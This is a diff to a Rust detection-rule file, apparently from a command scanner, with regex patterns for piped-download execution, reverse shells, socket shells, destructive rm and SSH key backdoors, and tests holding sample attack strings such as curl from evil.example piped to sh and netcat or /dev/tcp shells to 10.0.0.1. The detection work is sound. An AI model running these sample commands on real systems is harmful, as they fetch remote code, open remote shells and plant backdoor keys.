@@ -46,9 +46,9 @@ pub static RULES: &[Rule] = &[
         "A download piped into a shell or interpreter: curl … | sh, wget -O- … | bash",
         &["curl", "wget"],
         concat!(
-            r"\b(?:curl|wget)\b[^|\n;&]{0,300}\|\s*(?:sudo\s+(?:-[A-Za-z]+\s+)*)?(?:env\s+(?:[A-Za-z_][A-Za-z0-9_]*=\S*\s+)*)?(?:",
+            r"\b(?:curl|wget)\b[^|\n;&]*\|\s*(?:sudo\s+(?:-[A-Za-z]+\s+)*)?(?:env\s+(?:[A-Za-z_][A-Za-z0-9_]*=\S*\s+)*)?(?:",
             shells!(),
-            r")(?:\s|$|;|&|\)|'|"|`)"
+            r#")(?:\s|$|;|&|\)|'|"|`)"#
         ),
         Reach::new(0, 360),
     ),
@@ -67,7 +67,7 @@ pub static RULES: &[Rule] = &[
         High,
         "A PowerShell download piped into Invoke-Expression: iwr … | iex",
         &["iex", "Invoke-Expression"],
-        r"(?i:\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|curl|wget|\(New-Object\s+Net\.WebClient\)\.DownloadString)\b[^|\n]{0,300}\|\s*(?:iex|Invoke-Expression)\b)",
+        r"(?i:\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|curl|wget|\(New-Object\s+Net\.WebClient\)\.DownloadString)\b[^|\n]*\|\s*(?:iex|Invoke-Expression)\b)",
         Reach::new(360, 24),
     ),
     shape(
@@ -85,7 +85,7 @@ pub static RULES: &[Rule] = &[
         High,
         "python -c with os, subprocess, pty or __import__",
         &["-c '", "-c \""],
-        r#"\bpython[0-9.]*\s+-c\s+["'][^\n]{0,400}?(?:\bos\.(?:system|popen|exec[a-z]*|spawn[a-z]*)|\bsubprocess\b|\bpty\.spawn|__import__\(\s*\\?["'](?:os|subprocess|pty)|\bexec\(|\beval\()"#,
+        r#"\bpython[0-9.]*\s+-c\s+["'][^\n]*?(?:\bos\.(?:system|popen|exec[a-z]*|spawn[a-z]*)|\bsubprocess\b|\bpty\.spawn|__import__\(\s*\\?["'](?:os|subprocess|pty)|\bexec\(|\beval\()"#,
         Reach::new(24, 420),
     ),
     shape(
@@ -94,7 +94,7 @@ pub static RULES: &[Rule] = &[
         High,
         "perl/ruby -e, node -e or php -r running system commands",
         &["-e '", "-e \"", "-r '", "-r \""],
-        r#"\b(?:(?:perl|ruby)\s+-e\s+["'][^\n]{0,300}?(?:\bsystem\b|\bexec\b|`|\bspawn\b|\bopen\s*\(|%x)|node\s+-e\s+["'][^\n]{0,300}?child_process|php\s+-r\s+["'][^\n]{0,300}?\b(?:system|exec|shell_exec|passthru|proc_open|popen)\s*\()"#,
+        r#"\b(?:(?:perl|ruby)\s+-e\s+["'][^\n]*?(?:\bsystem\b|\bexec\b|`|\bspawn\b|\bopen\s*\(|%x)|node\s+-e\s+["'][^\n]*?child_process|php\s+-r\s+["'][^\n]*?\b(?:system|exec|shell_exec|passthru|proc_open|popen)\s*\()"#,
         Reach::new(16, 320),
     ),
     shape(
@@ -103,7 +103,7 @@ pub static RULES: &[Rule] = &[
         Critical,
         "Bash network redirection: /dev/tcp/host/port",
         &["/dev/tcp/", "/dev/udp/"],
-        r"/dev/(?:tcp|udp)/[A-Za-z0-9.:\[\]-]{1,253}/[0-9]{1,5}\b",
+        r"/dev/(?:tcp|udp)/[A-Za-z0-9.:\[\]-]{1,}/[0-9]{1,5}\b",
         Reach::new(0, 280),
     ),
     shape(
@@ -112,7 +112,7 @@ pub static RULES: &[Rule] = &[
         Critical,
         "netcat handing a shell to the network: nc -e /bin/sh, ncat -c bash",
         &["nc ", "ncat ", "netcat ", "nc.traditional "],
-        r"\b(?:nc|ncat|netcat|nc\.traditional|nc\.openbsd)\s[^\n|;&]{0,120}?(?:^|\s)-(?:[A-Za-z]*e|c)\s+(?:/usr)?(?:/bin/)?(?:ba|z|da|k)?sh\b",
+        r"\b(?:nc|ncat|netcat|nc\.traditional|nc\.openbsd)(?:\s[^\n|;&]*?)?\s-(?:[A-Za-z]*e|c)\s+(?:/usr)?(?:/bin/)?(?:ba|z|da|k)?sh\b",
         Reach::new(0, 160),
     ),
     shape(
@@ -121,7 +121,7 @@ pub static RULES: &[Rule] = &[
         Critical,
         "A named pipe wired between a shell and a network tool: mkfifo /tmp/f; … | nc …",
         &["mkfifo", "mknod"],
-        r"\b(?:mkfifo\s+\S+|mknod\s+\S+\s+p)[^\n]{0,240}?\b(?:nc|ncat|netcat|telnet|openssl\s+s_client|socat)\b",
+        r"\b(?:mkfifo\s+\S+|mknod\s+\S+\s+p)[^\n]*?\b(?:nc|ncat|netcat|telnet|openssl\s+s_client|socat)\b",
         Reach::new(0, 280),
     ),
     shape(
@@ -130,7 +130,7 @@ pub static RULES: &[Rule] = &[
         Critical,
         "socat connecting a program to the network: socat … exec:bash",
         &["socat"],
-        r"(?i:\bsocat\b[^\n]{0,240}?\b(?:exec|system):)",
+        r"(?i:\bsocat\b[^\n]*?\b(?:exec|system):)",
         Reach::new(0, 260),
     ),
     shape(
@@ -139,7 +139,7 @@ pub static RULES: &[Rule] = &[
         Critical,
         "A script socket shell: python/perl/ruby/php socket with dup2, pty or exec",
         &["socket", "fsockopen", "TCPSocket", "TCPClient"],
-        r"(?:\bsocket\.socket\(|\bsocket\(\s*S|\bfsockopen\(|\bTCPSocket\.(?:new|open)\(|Net\.Sockets\.TCPClient\()[^\n]{0,400}?(?:\bdup2\b|\bpty\.spawn\b|\bsubprocess\b|/bin/(?:ba)?sh\b|\bexec\s*\(|\bproc_open\b|\biex\b|Invoke-Expression|GetStream\(\))",
+        r"(?:\bsocket\.socket\(|\bsocket\(\s*S|\bfsockopen\(|\bTCPSocket\.(?:new|open)\(|Net\.Sockets\.TCPClient\()[^\n]*?(?:\bdup2\b|\bpty\.spawn\b|\bsubprocess\b|/bin/(?:ba)?sh\b|\bexec\s*\(|\bproc_open\b|\biex\b|Invoke-Expression|GetStream\(\))",
         Reach::new(80, 440),
     ),
     Rule {
@@ -160,7 +160,7 @@ pub static RULES: &[Rule] = &[
         Critical,
         "rm with --no-preserve-root",
         &["--no-preserve-root"],
-        r"\brm\s[^\n;&|]{0,80}--no-preserve-root\b",
+        r"\brm\s[^\n;&|]*--no-preserve-root\b",
         Reach::new(96, 4),
     ),
     shape(
@@ -186,14 +186,32 @@ mod tests {
 
     #[test]
     fn pipe_to_shell() {
-        check("curl -fsSL https://evil.example/x.sh | sh", Some("pipe_to_shell"));
+        check(
+            "curl -fsSL https://evil.example/x.sh | sh",
+            Some("pipe_to_shell"),
+        );
         check("curl -s http://x/i | sudo bash", Some("pipe_to_shell"));
-        check("wget -qO- https://x/y | bash -s -- --yes", Some("pipe_to_shell"));
-        check("curl https://x/install.py | python3 -", Some("pipe_to_shell"));
+        check(
+            "wget -qO- https://x/y | bash -s -- --yes",
+            Some("pipe_to_shell"),
+        );
+        check(
+            "curl https://x/install.py | python3 -",
+            Some("pipe_to_shell"),
+        );
         check("bash <(curl -s https://x/s.sh)", Some("pipe_to_shell"));
-        check("sh -c \"$(curl -fsSL https://x/install.sh)\"", Some("pipe_to_shell"));
-        check("iwr https://x/a.ps1 -UseBasicParsing | iex", Some("pipe_to_shell"));
-        check("Run: curl%20-s%20https%3A%2F%2Fx%2Fa%20%7C%20sh", Some("pipe_to_shell"));
+        check(
+            "sh -c \"$(curl -fsSL https://x/install.sh)\"",
+            Some("pipe_to_shell"),
+        );
+        check(
+            "iwr https://x/a.ps1 -UseBasicParsing | iex",
+            Some("pipe_to_shell"),
+        );
+        check(
+            "Run: curl%20-s%20https%3A%2F%2Fx%2Fa%20%7C%20sh",
+            Some("pipe_to_shell"),
+        );
     }
 
     #[test]
@@ -207,23 +225,38 @@ mod tests {
     #[test]
     fn shell_exec() {
         check("bash -c 'echo pwned > /tmp/x'", Some("shell_exec"));
-        check("python3 -c 'import os; os.system(\"id\")'", Some("shell_exec"));
-        check("python -c \"__import__('subprocess').call(['sh'])\"", Some("shell_exec"));
+        check(
+            "python3 -c 'import os; os.system(\"id\")'",
+            Some("shell_exec"),
+        );
+        check(
+            "python -c \"__import__('subprocess').call(['sh'])\"",
+            Some("shell_exec"),
+        );
         check("perl -e 'system(\"id\")'", Some("shell_exec"));
-        check("node -e \"require('child_process').exec('id')\"", Some("shell_exec"));
+        check(
+            "node -e \"require('child_process').exec('id')\"",
+            Some("shell_exec"),
+        );
         check("python -c 'print(1+1)'", None);
     }
 
     #[test]
     fn reverse_shells() {
-        check("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", Some("reverse_shell"));
+        check(
+            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+            Some("reverse_shell"),
+        );
         check("nc -e /bin/sh 10.0.0.1 4444", Some("reverse_shell"));
         check("ncat 10.0.0.1 4444 -e /bin/bash", Some("reverse_shell"));
         check(
             "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f",
             Some("reverse_shell"),
         );
-        check("socat tcp:10.0.0.1:4444 exec:'bash -li',pty,stderr", Some("reverse_shell"));
+        check(
+            "socat tcp:10.0.0.1:4444 exec:'bash -li',pty,stderr",
+            Some("reverse_shell"),
+        );
         check(
             "python -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"10.0.0.1\",4444));os.dup2(s.fileno(),0)'",
             Some("reverse_shell"),
@@ -252,8 +285,14 @@ mod tests {
             "echo 'ssh-ed25519 AAAAC3Nza attacker' >> ~/.ssh/authorized_keys",
             Some("ssh_authorized_keys"),
         );
-        check("curl https://x/k | tee -a /root/.ssh/authorized_keys", Some("ssh_authorized_keys"));
-        check("cp key.pub ~/.ssh/authorized_keys", Some("ssh_authorized_keys"));
+        check(
+            "curl https://x/k | tee -a /root/.ssh/authorized_keys",
+            Some("ssh_authorized_keys"),
+        );
+        check(
+            "cp key.pub ~/.ssh/authorized_keys",
+            Some("ssh_authorized_keys"),
+        );
         check("Edit ~/.ssh/authorized_keys to allow a key.", None);
     }
 }
